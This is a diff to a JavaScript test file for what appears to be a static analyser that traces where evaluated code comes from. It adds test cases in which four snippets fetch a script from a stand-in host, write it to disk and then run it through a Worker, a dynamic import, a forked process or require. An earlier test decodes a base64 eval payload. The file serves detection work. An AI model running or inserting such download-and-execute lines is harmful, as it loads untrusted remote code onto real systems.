@@ -112,3 +112,21 @@ test("decoded code is handed on with its encoding", () => {
   expect(embedded).toMatchObject([{ text: "alert(1);", layer: { kind: "decoded", encoding: "base64" }, offset: null }]);
   expect(operations).toMatchObject([{ at: { line: 1, column: 1 }, snippet: "eval(atob('YWxlcnQoMSk7'))" }]);
 });
+
+test.each([
+  "fs.writeFileSync('./w.mjs', await (await fetch('https://x.example/w')).text()); new Worker('./w.mjs')",
+  "const f = path.join(os.tmpdir(), `r-${Date.now()}.mjs`); await fs.promises.writeFile(f, await (await fetch('https://x.example/w')).text()); await import(pathToFileURL(f).href)",
+  "https.get('https://x.example/w', (r) => r.pipe(fs.createWriteStream('/tmp/w.js')).on('close', () => child_process.fork('/tmp/w.js')))",
+  "fs.writeFileSync('w.js', (await axios.get('https://x.example/w')).data); require('./w.js').run()",
+])("a file is written and then loaded: %s", (code) => {
+  const modules = "import fs from 'fs'; import path from 'path'; import os from 'os'; import https from 'https';";
+  const others = "import child_process from 'child_process'; import axios from 'axios';";
+  const { operations } = read(`${modules}${others}import { pathToFileURL } from 'url'; ${code}`);
+  const runs = operations.flatMap(({ operation }) => (operation.op === "evaluate" ? [operation.code] : []));
+  expect(runs).toHaveLength(1);
+  expect(runs[0]?.origins.map(({ kind }) => kind)).toEqual(["network", "file"]);
+});
+
+test("a file that comes along is not code that was written", () => {
+  expect(only("fs.writeFileSync('a.json', '{}'); require('./b.js'); new Worker('./c.js')", "evaluate")).toEqual([]);
+});
